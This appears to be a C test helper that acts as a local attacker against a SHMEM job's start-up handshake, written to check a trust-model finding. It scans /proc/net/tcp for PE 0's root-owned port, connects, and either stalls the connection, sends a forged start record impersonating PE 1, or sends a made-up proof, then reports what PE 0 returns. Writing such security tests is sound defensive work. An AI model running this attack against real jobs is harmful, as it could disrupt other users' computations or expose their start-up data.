/* SPDX-License-Identifier: MIT */
/*
 * An unprivileged local user attacking a SHMEM job's start-up exchange (tests/e2e/test_shmem.py,
 * trust-model.md finding R10): it finds PE 0's listening port in /proc/net/tcp (a root-owned TCP
 * listener in shmemrun's port range 20000-29999), connects, and
 *   silent  sends nothing (holds a connection, as if to stall PE 0),
 *   record  sends a start record claiming to be PE 1 of NPES (to take its slot and get the table),
 *   proof   answers the challenge with a made-up proof claiming to be PE 1,
 * then reads whatever PE 0 sends until it closes. It prints
 *   mode=M port=P received=N magic=XXXXXXXX end=eof|reset|timeout
 * (magic: the first 4 bytes received, little-endian). Usage: shmem-intruder MODE NPES
 */
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int find_port(void)
{
	char line[512];

	for (int tries = 0; tries < 2400; tries++) { /* 120 s */
		FILE *f = fopen("/proc/net/tcp", "r");
		struct timespec ts = { 0, 50000000 };

		if (f) {
			while (fgets(line, sizeof(line), f)) {
				unsigned port, st, uid;

				if (sscanf(line, " %*d: %*8x:%x %*8x:%*x %x %*x:%*x %*x:%*x %*x %u", &port, &st, &uid) == 3 &&
				    st == 0x0a && uid == 0 && port >= 20000 && port <= 29999) {
					fclose(f);
					return (int)port;
				}
			}
			fclose(f);
		}
		nanosleep(&ts, NULL);
	}
	return -1;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "silent";
	uint32_t npes = argc > 2 ? (uint32_t)atoi(argv[2]) : 4;
	static uint8_t buf[65536], msg[512];
	size_t got = 0, len = 0;
	const char *end = "timeout";
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct pollfd p;
	int port = find_port(), s;

	if (port < 0) {
		printf("mode=%s port=none\n", mode);
		return 1;
	}
	a.sin_port = htons((uint16_t)port);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a))) {
		printf("mode=%s port=%d connect=%s\n", mode, port, strerror(errno));
		return 1;
	}
	if (!strcmp(mode, "record")) { /* struct boot_rec of the start-up exchange before the fix */
		uint32_t w[8] = { 0x53484d31u, 1, npes, 1, 0x1234, 0x1111, 0x2222, 0 };

		memcpy(msg, w, sizeof(w));
		len = 320;
	} else if (!strcmp(mode, "proof")) { /* magic "PHM2", pe 1, npes, a nonce and a guessed MAC */
		uint32_t w[4] = { 0x50484d32u, 1, npes, 0 };

		memcpy(msg, w, sizeof(w));
		for (int i = 16; i < 80; i++)
			msg[i] = (uint8_t)(i * 37);
		len = 80;
	}
	p = (struct pollfd){ .fd = s, .events = POLLIN };
	if (len && poll(&p, 1, 3000) == 1) { /* a challenge, if PE 0 sends one first */
		ssize_t r = recv(s, buf, sizeof(buf), 0);

		if (r > 0)
			got += (size_t)r;
	}
	if (len)
		send(s, msg, len, MSG_NOSIGNAL);
	for (;;) {
		ssize_t r;

		p = (struct pollfd){ .fd = s, .events = POLLIN };
		if (poll(&p, 1, 60000) != 1)
			break;
		r = recv(s, buf + (got < sizeof(buf) ? got : 0), got < sizeof(buf) ? sizeof(buf) - got : sizeof(buf), 0);
		if (r == 0) {
			end = "eof";
			break;
		}
		if (r < 0) {
			end = errno == ECONNRESET ? "reset" : strerror(errno);
			break;
		}
		got += (size_t)r;
	}
	printf("mode=%s port=%d received=%zu magic=%02x%02x%02x%02x end=%s\n", mode, port, got, buf[3], buf[2], buf[1],
	       buf[0], end);
	return 0;
}
